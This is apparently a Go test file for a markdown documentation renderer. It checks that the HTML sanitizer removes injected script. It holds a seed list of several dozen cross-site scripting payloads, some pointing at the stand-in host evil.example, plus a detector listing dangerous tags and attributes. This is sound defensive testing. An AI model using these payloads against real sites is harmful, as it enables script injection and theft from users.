package render_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/koboshi-dev/koboshi/operators/markdownview/internal/book"
	"github.com/koboshi-dev/koboshi/operators/markdownview/internal/render"
)

// hostile holds pages that try to run scripts. The fuzz test uses these pages as seeds.
var hostile = map[string]string{
	"script":                   "<script>alert(1)</script>",
	"script in mixed case":     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
	"script within script":     "<scr<script>ipt>alert(1)</scr</script>ipt>",
	"script in a code fence":   "```html\n<script>alert(1)</script>\n```",
	"script as a fence's name": "```<script>alert(1)</script>\nx\n```",
	"script in a heading":      "# <script>alert(1)</script> {#x onclick=alert(1)}",
	"chosen id and handlers":   "# a {#a\"onmouseover=alert(1) .b onload=\"alert(1)\" style=\"x\"}",
	"handler":                  "<img src=x onerror=alert(1)>",
	"handler after a slash":    "<img/src=x/onerror=alert(1)>",
	"handler in details":       "<details open ontoggle=alert(1)><summary>s</summary>t</details>",
	"javascript link":          "[x](javascript:alert(1))",
	"javascript with entities": "[x](&#106;avascript&colon;alert(1))",
	"javascript with a tab":    "<a href=\"java\tscript:alert(1)\">x</a>",
	"javascript with controls": "<a href=\"\x01javascript:alert(1)\">x</a>",
	"javascript image":         "![x](javascript:alert(1))",
	"javascript autolink":      "<javascript:alert(1)>",
	"javascript reference":     "[x][r]\n\n[r]: javascript:alert(1)",
	"vbscript":                 "[x](vbscript:msgbox(1))",
	"data page":                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"data page as image":       "<img src=\"data:text/html,<script>alert(1)</script>\">",
	"style element":            "<style>body{display:none}</style>",
	"style attribute":          "<p style=\"position:fixed;inset:0\">x</p>",
	"iframe":                   "<iframe src=https://evil.example></iframe>",
	"iframe with a page":       "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
	"object and embed":         "<object data=x.swf></object><embed src=x>",
	"svg":                      "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)>x</a></svg>",
	"svg with an animation":    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
	"math":                     "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"form":                     "<form action=https://evil.example><input name=q><button>go</button></form>",
	"base and meta":            "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\">",
	"link element":             "<link rel=stylesheet href=//evil.example/x.css>",
	"template":                 "<template><script>alert(1)</script></template>",
	"noscript":                 "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"comment":                  "<!--><script>alert(1)</script-->",
	"processing instruction":   "<?php <script>alert(1)</script> ?>",
	"cdata":                    "<![CDATA[<script>alert(1)</script>]]>",
	"footnote":                 "a[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: <script>alert(1)</script>",
	"table":                    "| <script>alert(1)</script> |\n|:--|\n| [x](javascript:alert(1)) |",
	"admonition":               "> [!NOTE]<script>alert(1)</script>\n> [!NOTE]\n> <script>alert(1)</script>",
	"title of a link":          "[x](a \"\\\"onmouseover=alert(1)\")",
	"alt of an image":          "![\" onerror=\"alert(1)](https://evil.example/a.png)",
	"frame's own names":        "<div class=\"mdv-top\" id=\"mdv:main\" data-mdv-index=\"//evil.example\">x</div>",
	"clobbering":               "<a id=attributes name=attributes><img name=querySelector src=x>",
	"xmp and plaintext":        "<xmp><script>alert(1)</script></xmp><plaintext><script>",
	"end of the frame":         "</article></main></div></body></html><script>alert(1)</script>",
	"nul bytes":                "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x o\x00nerror=alert(1)>",
	"not UTF-8":                "\xff\xfe<script\xc0>alert(1)</script>",
}

func renderPage(t testing.TB, source string) render.Page {
	t.Helper()
	b := book.Read([]book.File{{Path: "guide/page.md", Data: []byte(source)}, {Path: "README.md", Data: []byte("# Home")}, {Path: "guide/a.png"}})
	p := b.Page("guide/page.md")
	if p == nil {
		t.Fatal("the book does not contain the page")
	}
	out, err := render.New(render.Options{Base: "/docs/"}).Page(b, p)
	if err != nil {
		out = render.Source(p)
	}
	return out
}

// harm returns the dangerous part of HTML, or "", without using the policy.
func harm(out []byte) string {
	elements := strings.Fields("script style iframe frame object embed applet form button textarea select svg math base meta link template noscript audio video portal xmp plaintext html head body main nav header")
	tokens := html.NewTokenizer(strings.NewReader(string(out)))
	for {
		switch tokens.Next() {
		case html.ErrorToken:
			return ""
		case html.CommentToken, html.DoctypeToken:
			return "a comment or doctype: " + tokens.Token().String()
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			token := tokens.Token()
			if slices.Contains(elements, token.Data) {
				return "an element: " + token.String()
			}
			for _, a := range token.Attr {
				if why := harmfulAttribute(token.Data, a); why != "" {
					return why + ": " + token.String()
				}
			}
		}
	}
}

func harmfulAttribute(element string, a html.Attribute) string {
	switch key := strings.ToLower(a.Key); {
	case strings.HasPrefix(key, "on"):
		return "a handler"
	case key == "style" || key == "srcdoc" || key == "srcset" || key == "formaction" || strings.HasPrefix(key, "data-") || strings.Contains(key, ":"):
		return "an attribute " + key
	case strings.Contains(a.Val, "mdv"):
		return "a name of the frame"
	case key == "id" && strings.Contains(a.Val, ":") && !strings.HasPrefix(a.Val, "fn"):
		return "an id of the frame"
	case key == "href" || key == "src":
		u, err := url.Parse(a.Val)
		if err != nil {
			return "an invalid address"
		}
		local := u.Scheme == "" && u.Host == ""
		image := u.Scheme == "data" && strings.HasPrefix(u.Opaque, "image/")
		if key == "src" && !local && !image {
			return "an image from another host"
		}
		if !local && !image && !slices.Contains([]string{"http", "https", "mailto", "tel", ""}, u.Scheme) {
			return "a scheme " + u.Scheme
		}
	}
	return ""
}

func TestNothingAnAuthorWritesBecomesScript(t *testing.T) {
	for name, source := range hostile {
		t.Run(name, func(t *testing.T) {
			if why := harm(renderPage(t, source).HTML); why != "" {
				t.Errorf("%q left %s", source, why)
			}
		})
	}
}

func TestHarmIsFoundWhereItIs(t *testing.T) {
	for _, out := range []string{"<script>", "<p onclick=x>", "<a href=javascript:x>", "<p style=x>", "<img src=https://x.example/>", "<p id=mdv:x>", "<!-- x -->", "<svg>"} {
		if harm([]byte(out)) == "" {
			t.Errorf("no harm was found in %s, so the other tests would not find it", out)
		}
	}
}

func TestAPageCannotEndTheFrameItStandsIn(t *testing.T) {
	for name, source := range hostile {
		page := renderPage(t, source+"\n\n<div><details><table><tr><td><b>")
		depth := map[string]int{}
		tokens := html.NewTokenizer(strings.NewReader(string(page.HTML)))
		for kind := tokens.Next(); kind != html.ErrorToken; kind = tokens.Next() {
			token := tokens.Token()
			switch kind {
			case html.StartTagToken:
				depth[token.Data]++
			case html.EndTagToken:
				if depth[token.Data]--; depth[token.Data] < 0 {
					t.Errorf("%s: </%s> closes what the page did not open: %s", name, token.Data, page.HTML)
				}
			}
		}
		for _, element := range []string{"div", "details", "table", "b", "a", "p", "pre", "ul", "blockquote"} {
			if depth[element] != 0 {
				t.Errorf("%s: <%s> stays open: %s", name, element, page.HTML)
			}
		}
	}
}

func TestScriptTextIsNotFoundByASearch(t *testing.T) {
	page := renderPage(t, "visible\n\n<script>hiddenword</script><style>hiddenword</style>\n\nend")
	for _, s := range page.Sections {
		if strings.Contains(s.Text, "hiddenword") {
			t.Errorf("the text for the search contains text that readers do not see: %q", s.Text)
		}
	}
}

func FuzzPage(f *testing.F) {
	for _, source := range hostile {
		f.Add(source)
	}
	f.Add("# a\n\n- [x] b\n\n| a | b |\n|---|--:|\n| c | d |\n\n```go\nfunc main() {}\n```\n\na[^1] [b](../README.md#x) ![i](a.png)\n\n[^1]: c\n\nterm\n: def\n")
	f.Fuzz(func(t *testing.T, source string) {
		if len(source) > 4<<10 {
			return
		}
		if why := harm(renderPage(t, source).HTML); why != "" {
			t.Fatalf("%q left %s", source, why)
		}
	})
}
